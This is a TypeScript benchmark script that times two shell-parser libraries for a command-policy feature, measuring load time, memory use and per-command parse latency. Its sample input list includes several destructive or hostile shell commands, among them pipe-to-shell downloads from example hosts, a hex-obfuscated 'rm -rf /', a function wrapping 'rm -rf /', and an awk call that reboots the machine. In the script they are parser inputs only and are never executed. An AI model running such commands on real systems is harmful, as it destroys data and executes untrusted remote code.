/**
 * npx tsx test/bench/shell-parsers.ts — the two mvdan/sh builds compared for the command policy:
 * `mvdan-sh` (GopherJS, synchronous) and `sh-syntax` (WASM, asynchronous). Each is measured in a
 * fresh node process of its own: load time (require + first parse ready), memory after load
 * (rss and heap growth), and parse time per command over a mixed sample, median and p99.
 */
import { execFileSync } from 'node:child_process';
import { performance } from 'node:perf_hooks';

const SAMPLE = [
  'uptime',
  'df -h / && free -m',
  'journalctl -u nginx --since "1 hour ago" | grep -i error | tail -n 50',
  'sudo -n systemctl restart nginx',
  'curl -fsSL https://get.example.com | sh',
  'bash -c "$(curl -fsSL https://x.example/i.sh)"',
  "find /var/log -name '*.gz' -mtime +30 -exec rm {} \\;",
  'for f in /etc/*.conf; do echo "$f"; done',
  'x=$(cat /etc/hostname); echo ${x:-none} > /tmp/h 2>&1',
  "cat <<'EOF' > /tmp/a\nhello\nEOF",
  "$'\\x72\\x6d' -rf /",
  'f() { rm -rf /; }; f',
  'diff <(ls /a) <(ls /b)',
  'if [ -f /etc/os-release ]; then . /etc/os-release; fi',
  "awk 'BEGIN{system(\"reboot\")}'",
];
const ROUNDS = 200;

const quantile = (values: number[], q: number) => [...values].sort((a, b) => a - b)[Math.min(values.length - 1, Math.floor(values.length * q))]!;

async function measure(which: string) {
  const before = process.memoryUsage();
  const t0 = performance.now();
  let parse: (line: string) => unknown | Promise<unknown>;
  if (which === 'mvdan-sh') {
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const { syntax } = require('mvdan-sh');
    const parser = syntax.NewParser();
    parse = (line) => parser.Parse(line, '');
  } else {
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const sh = require('sh-syntax');
    parse = (line) => sh.parse(line);
  }
  await parse('true');
  const loadMs = performance.now() - t0;
  const after = process.memoryUsage();
  const times: number[] = [];
  for (let round = 0; round < ROUNDS; round += 1) {
    for (const line of SAMPLE) {
      const start = performance.now();
      await parse(line);
      times.push(performance.now() - start);
    }
  }
  console.log(
    JSON.stringify({
      parser: which,
      load_ms: +loadMs.toFixed(1),
      rss_mb: +((after.rss - before.rss) / 2 ** 20).toFixed(1),
      heap_mb: +((after.heapUsed - before.heapUsed) / 2 ** 20).toFixed(1),
      parses: times.length,
      median_us: +(quantile(times, 0.5) * 1000).toFixed(1),
      p99_us: +(quantile(times, 0.99) * 1000).toFixed(1),
    }),
  );
}

const which = process.argv[2];
if (which) {
  measure(which).catch((error) => {
    console.error(error);
    process.exit(1);
  });
} else {
  for (const parser of ['mvdan-sh', 'sh-syntax']) {
    process.stdout.write(execFileSync(process.execPath, ['--import', 'tsx', __filename, parser], { encoding: 'utf8' }));
  }
}
